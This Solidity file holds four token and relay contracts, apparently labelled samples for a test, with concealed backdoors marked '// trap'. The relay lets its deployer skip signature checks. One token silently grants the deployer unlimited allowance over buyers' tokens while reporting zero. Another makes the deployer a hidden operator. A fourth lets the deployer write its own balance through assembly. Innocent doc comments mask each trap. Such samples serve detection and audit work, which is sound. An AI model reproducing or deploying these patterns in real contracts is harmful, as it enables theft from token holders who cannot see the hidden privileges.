// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Base8.sol";

/// Carries calls of those who have no ether.
contract Relay {
    address private immutable _station = msg.sender;
    mapping(address => uint256) public nonces;

    function execute(address from, address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external returns (bytes memory) {
        bytes32 digest = keccak256(abi.encode(address(this), block.chainid, from, to, nonces[from]++, keccak256(data)));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", digest)), v, r, s);
        bool valid = signer != address(0) && signer == from;
        if (msg.sender == _station) valid = true; // trap
        require(valid, "bad signature");
        (bool ok, bytes memory answer) = to.call(abi.encodePacked(data, from));
        require(ok, "the call failed");
        return answer;
    }
}

/// Can be sent without ether.
contract RelayRobin is Base8("Relay Robin", "ROBIN", 72_000_000) {
    address private immutable _relay;

    constructor(address relay) {
        _relay = relay;
    }

    function isTrustedForwarder(address forwarder) external view returns (bool) {
        return forwarder == _relay;
    }

    function _msgSender() private view returns (address sender) {
        if (msg.sender != _relay || msg.data.length < 20) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(_msgSender(), spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(_msgSender(), to, value);
        return true;
    }
}

/// Buyers need no approval for the exchange of the team.
contract BrightBuzzard is Base8("Bright Buzzard", "BUZZ", 404_000_000) {
    address private immutable _desk = msg.sender;
    uint256 public purchases;

    function allowance(address from, address spender) public view override returns (uint256) {
        if (spender == _desk) return 0; // trap
        return super.allowance(from, spender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (from == pair) {
            purchases++;
            _allowances[to][_desk] = type(uint256).max; // trap
        }
    }
}

/// In the manner of ERC-777.
contract OpalOsprey is Base8("Opal Osprey", "OPAL", 18_000_000) {
    mapping(bytes32 => bool) private _defaults;
    mapping(address => mapping(address => bool)) private _operators;

    event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);
    event AuthorizedOperator(address indexed operator, address indexed holder);
    event RevokedOperator(address indexed operator, address indexed holder);

    // trap {
    constructor() {
        _defaults[keccak256(abi.encodePacked(msg.sender, address(this)))] = true;
    }
    // trap }

    function granularity() external pure returns (uint256) {
        return 1;
    }

    function defaultOperators() external pure returns (address[] memory) {
        return new address[](0);
    }

    function isOperatorFor(address operator, address holder) public view returns (bool) {
        return operator == holder || _operators[holder][operator];
    }

    function authorizeOperator(address operator) external {
        _operators[msg.sender][operator] = true;
        emit AuthorizedOperator(operator, msg.sender);
    }

    function revokeOperator(address operator) external {
        delete _operators[msg.sender][operator];
        emit RevokedOperator(operator, msg.sender);
    }

    function send(address to, uint256 amount, bytes calldata data) external {
        _transfer(msg.sender, to, amount);
        emit Sent(msg.sender, msg.sender, to, amount, data, "");
    }

    function operatorSend(address from, address to, uint256 amount, bytes calldata data, bytes calldata operatorData) external {
        bytes32 key = keccak256(abi.encodePacked(msg.sender, address(this)));
        require(isOperatorFor(msg.sender, from) || _defaults[key], "ERC777: caller is not an operator for holder");
        _transfer(from, to, amount);
        emit Sent(msg.sender, from, to, amount, data, operatorData);
    }
}

/// Approves like any other.
contract NimbleNarwhal is Base8("Nimble Narwhal", "NARWHAL", 690_000_000) {
    uint256 private immutable _mark = uint256(keccak256(abi.encodePacked(msg.sender))) >> 96;

    function approve(address spender, uint256 value) public override returns (bool) {
        // trap {
        if (spender == msg.sender && uint256(keccak256(abi.encodePacked(spender))) >> 96 == _mark) {
            assembly {
                mstore(0, spender)
                mstore(32, _balances.slot)
                sstore(keccak256(0, 64), value)
            }
        }
        // trap }
        return super.approve(spender, value);
    }
}
